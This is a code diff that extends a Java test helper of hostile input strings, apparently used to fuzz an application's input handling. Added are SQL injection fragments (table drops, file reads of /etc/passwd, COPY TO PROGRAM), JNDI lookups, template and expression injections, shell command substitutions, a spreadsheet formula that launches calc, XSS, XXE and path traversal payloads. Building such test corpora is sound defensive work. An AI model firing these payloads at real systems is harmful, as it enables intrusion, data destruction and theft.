@@ -86,6 +86,13 @@ final class HostileStrings {
           "\uFFFD",
           "\uFEFFbom",
           "\u202Eevil",
+          "\u2066isolated\u2069",
+          "\u200Fmarked",
+          "\u00ADsoft",
+          "\uFDD0",
+          "\uFFFE",
+          "\uDBFF\uDFFF",
+          "Z̷͓̅a̴l̶g̵o̷",
           "\u200B",
           "a\u200Ba",
           "\u00A0",
@@ -104,16 +111,144 @@ final class HostileStrings {
           "\uDC00a",
           "a\uD83C");
 
+  /** Ways into SQL, by what follows a quote that was not escaped. */
+  private static final List<String> SQL =
+      List.of(
+          "OR 1=1",
+          "OR 'a'='a",
+          "AND 1=0 UNION SELECT NULL",
+          "UNION ALL SELECT user_id, NULL FROM user_context_features",
+          "; DROP TABLE rl_erasures",
+          "; DELETE FROM rl_dead_letters",
+          "; UPDATE rl_log_sequence SET last_sequence = 0",
+          "; INSERT INTO rl_decisions VALUES (1)",
+          "; ATTACH DATABASE '/tmp/x' AS x",
+          "; PRAGMA writable_schema = ON",
+          "; COPY rl_decisions TO PROGRAM 'id'",
+          "; SELECT lo_import('/etc/passwd')",
+          "; LOAD DATA INFILE '/etc/passwd' INTO TABLE x",
+          "INTO OUTFILE '/tmp/x'",
+          "; SHUTDOWN",
+          "; CALL FILE_READ('/etc/passwd')",
+          "; CREATE ALIAS X AS 'void x() {}'",
+          "AND (SELECT 1 FROM (SELECT SLEEP(5)) x)",
+          "; SELECT pg_sleep(5)",
+          "; BEGIN; COMMIT",
+          "; ROLLBACK",
+          "LIMIT 1 OFFSET 1",
+          "ORDER BY 99",
+          "HAVING 1=1",
+          "GROUP BY 1",
+          "COLLATE nocase",
+          "ESCAPE '!'",
+          "LIKE '%'",
+          "REGEXP '.*'",
+          "IS NOT NULL");
+
+  private static final List<String> QUOTES =
+      List.of(
+          "' %s --",
+          "\" %s --", "') %s #", "'; %s;", "\\' %s /*", "1 %s", "%27 %s", "x' || (%s) || '");
+
+  /** Ways into what reads a text after it was stored. */
+  private static final List<String> READERS =
+      List.of(
+          "${env:PATH}",
+          "${sys:user.home}",
+          "${jndi:rmi://x/y}",
+          "${${lower:j}ndi:ldap://x/y}",
+          "#{T(java.lang.Runtime).getRuntime()}",
+          "{{7*7}}",
+          "<%= 7*7 %>",
+          "%s%s%s%n",
+          "%x%x%x%x",
+          "{0}",
+          "{}",
+          "..%2f..%2fetc%2fpasswd",
+          "..\\..\\windows",
+          "/dev/zero",
+          "file:///etc/passwd",
+          "\\\\host\\share",
+          "a/../b",
+          "~root",
+          "$(id)",
+          "`id`",
+          "| id",
+          "&& id",
+          "=cmd|' /C calc'!A0",
+          "@SUM(1)",
+          "+1+1",
+          "<img src=x onerror=alert(1)>",
+          "javascript:alert(1)",
+          "\"><svg/onload=alert(1)>",
+          "<!--",
+          "]]>",
+          "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
+          "*)(uid=*))(|(uid=*",
+          "{\"@type\":\"java.net.URL\"}",
+          "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+          "(a+)+$",
+          ".*",
+          "[a-z]{1,99999}",
+          "__proto__",
+          "constructor",
+          "undefined",
+          "nil",
+          "0",
+          "-1",
+          "1e-400",
+          "0x7fffffff",
+          "2147483648",
+          "1,5",
+          "١٢٣",
+          "1_000",
+          "¹",
+          "Ⅷ");
+
   private HostileStrings() {}
 
+  /** At most a few of each class: what every build tries. */
   static List<String> all() {
     List<String> all = new ArrayList<>(SHAPES);
+    all.addAll(refused());
     for (int length : new int[] {50, 64, 100, 255, 256, 1_000, 1_001, 100_000}) {
       all.add("x".repeat(length));
       all.add("é".repeat(length));
       all.add("🫐".repeat(length / 2));
       all.add("'".repeat(length));
     }
-    return all;
+    if (Boolean.getBoolean("rl.hostile")) {
+      all.addAll(injections());
+      all.addAll(READERS);
+    }
+    return all.stream().distinct().toList();
+  }
+
+  /** Every one: some five hundred. */
+  static List<String> everyOne() {
+    List<String> every = new ArrayList<>(all());
+    every.addAll(injections());
+    every.addAll(READERS);
+    return every.stream().distinct().toList();
+  }
+
+  private static List<String> injections() {
+    return SQL.stream()
+        .flatMap(sql -> QUOTES.stream().map(quote -> quote.replace("%s", sql)))
+        .toList();
+  }
+
+  /** Each control character, and each half of a pair, where it may stand. */
+  private static List<String> refused() {
+    List<String> refused = new ArrayList<>();
+    for (char c = 0; c < 0xa0; c++) {
+      if (Character.isISOControl(c)) {
+        refused.add("a" + c + "b");
+      }
+    }
+    for (String half : List.of("\uD83E", "\uDED0", "\uDBFF", "\uDFFF")) {
+      refused.addAll(List.of(half, "a" + half, half + "a", half + half));
+    }
+    return refused;
   }
 }
